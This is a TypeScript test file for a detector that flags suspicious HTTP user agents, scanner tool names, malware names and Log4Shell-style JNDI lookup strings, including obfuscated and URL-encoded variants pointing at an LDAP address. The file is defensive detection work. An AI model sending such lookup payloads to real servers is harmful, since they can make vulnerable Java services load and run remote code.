import { hours, http, startMs, times } from '../testing/flows.ts'
import { testDetector } from '../testing/test-detector.ts'
import { suspiciousUserAgent } from './suspicious-user-agent.ts'

const lookup = '$' + '{jndi:ldap://203.0.113.9/a}'

testDetector(suspiciousUserAgent, {
  quiet: {
    'browsers, package managers and no name at all': {
      records: [
        http(),
        http({ userAgent: 'Debian APT-HTTP/1.3 (2.4.6) non-interactive' }),
        http({ userAgent: 'Microsoft-CryptoAPI/10.0' }),
        http({ userAgent: 'curl/8.5.0' }),
        http({ userAgent: '' }),
      ],
    },
    'short keywords inside words': {
      records: ['cpbot/2.0', 'Mozilla/5.0 (SM-A515F Build/PBQ1) pbx2', 'superpb'].map((userAgent) =>
        http({ userAgent }),
      ),
    },
    'pages about JNDI': {
      records: [http({ uri: '/docs/jndi/tutorial?jndi:=1', referrer: 'https://www.example.com/jndi:howto' })],
    },
    'templates and percent signs in addresses': {
      records: [
        http({ uri: '/search?q=%7Bname%7D%20$' + '{price}&x=100%25' }),
        http({ uri: '/a?b=$' + '{c}:$' + '{d}' }),
      ],
    },
    'a keyword that was taken off the list': {
      config: { keywords: ['evilbot'] },
      records: [http({ userAgent: 'HttpSend/1.0' })],
    },
    'tools are allowed here': { config: { tools: [] }, records: [http({ userAgent: 'sqlmap/1.8' })] },
  },
  loud: {
    'the name of malware, in any case': {
      records: times(40, () => http({ userAgent: 'HTTPSend 2.1', host: 'c2.example' })),
      evidence: [
        {
          level: 'high',
          confidence: 1,
          facts: { keyword: 'httpsend', host: 'c2.example', where: 'userAgent' },
        },
      ],
    },
    'a short keyword as a word': {
      records: [http({ userAgent: 'PB' }), http({ userAgent: 'client (pb; 1.0)' })],
      evidence: [{ facts: { keyword: 'pb' } }, { facts: { keyword: 'pb' } }],
    },
    'an attack tool': {
      records: [http({ userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)' })],
      evidence: [{ level: 'medium', facts: { keyword: 'sqlmap', attackTool: true } }],
    },
    'lookups in the agent, the address, the referrer and the host': {
      records: [
        http({ userAgent: lookup }),
        http({ uri: `/?q=${lookup}` }),
        http({ uri: '/?q=%24%7BJnDi%3aldap://203.0.113.9/a%7d' }),
        http({ referrer: '$' + '{$' + '{lower:j}ndi:ldap://203.0.113.9/a}', host: 'b.example' }),
        http({ host: lookup }),
      ],
      evidence: [
        { facts: { where: 'userAgent' } },
        { facts: { where: 'uri' } },
        { facts: { where: 'referrer' } },
        { level: 'high', facts: { where: 'host', keyword: 'jndi lookup' } },
      ],
    },
    'the same at two hosts and in two windows': {
      records: times(4, (i) =>
        http({
          userAgent: 'tesseract',
          host: `h-${i % 2}.example`,
          tsMs: startMs + (i < 2 ? 0 : hours(1)) + i,
        }),
      ),
      evidence: times(4, () => ({ facts: { keyword: 'tesseract' } })),
    },
    'a scan with invented host names of one server': {
      records: times(3_000, (i) => http({ userAgent: 'Nikto/2.5', host: `v-${i}.example` })),
      evidence: [{ level: 'medium', facts: { servers: 1 } }],
    },
    'a scan of sixty servers, with a count': {
      records: times(60, (i) =>
        http({ userAgent: 'Mozilla/5.0 zgrab/0.x', host: `93.184.216.${i}`, dstIp: `93.184.216.${i}` }),
      ),
      evidence: [
        { level: 'medium', facts: { keyword: 'zgrab', servers: 1 } },
        { level: 'medium', facts: { keyword: 'zgrab', servers: 10 } },
      ],
    },
    'lookups sent to hundreds of servers, with a count': {
      records: times(400, (i) => http({ userAgent: lookup, dstIp: `93.184.${i >> 8}.${i & 255}` })),
      evidence: [1, 10, 100].map((servers) => ({ level: 'high', facts: { servers } }) as const),
    },
    'the name of malware at thousands of hosts, in bounded memory': {
      records: times(3_000, (i) => http({ userAgent: 'HTTPSend', host: `v-${i}.example` })),
      evidence: times(100, () => ({ level: 'high' }) as const),
    },
    'lookups at thousands of servers beside it, in bounded memory': {
      records: times(3_000, (i) =>
        http({
          userAgent: ['HTTPSend', 'sqlmap', 'zgrab', 'nikto', lookup][i % 5] ?? '',
          host: `v-${i}.example`,
          dstIp: `93.${i >> 16}.${(i >> 8) & 255}.${i & 255}`,
        }),
      ),
      evidence: [...times(100, () => ({ level: 'high' }) as const), ...times(12, () => ({}))],
    },
  },
})
